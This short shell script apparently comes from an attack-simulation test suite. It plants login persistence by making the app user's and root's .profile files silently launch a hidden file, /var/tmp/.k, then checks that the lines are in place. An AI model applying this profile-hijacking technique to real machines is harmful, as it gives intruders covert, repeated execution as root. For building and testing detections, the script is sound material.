#!/bin/sh
. /opt/case/case.sh

mkdir -p /home/app && cp /etc/skel/.profile /home/app/.profile
sed -i '1i [ -x /var/tmp/.k ] \&\& /var/tmp/.k >/dev/null 2>\&1' /home/app/.profile
touch /root/.profile
echo 'nohup /var/tmp/.k >/dev/null 2>&1 &' | dd of=/root/.profile oflag=append conv=notrunc 2>/dev/null
grep -q /var/tmp/.k /home/app/.profile && grep -q /var/tmp/.k /root/.profile
took_place
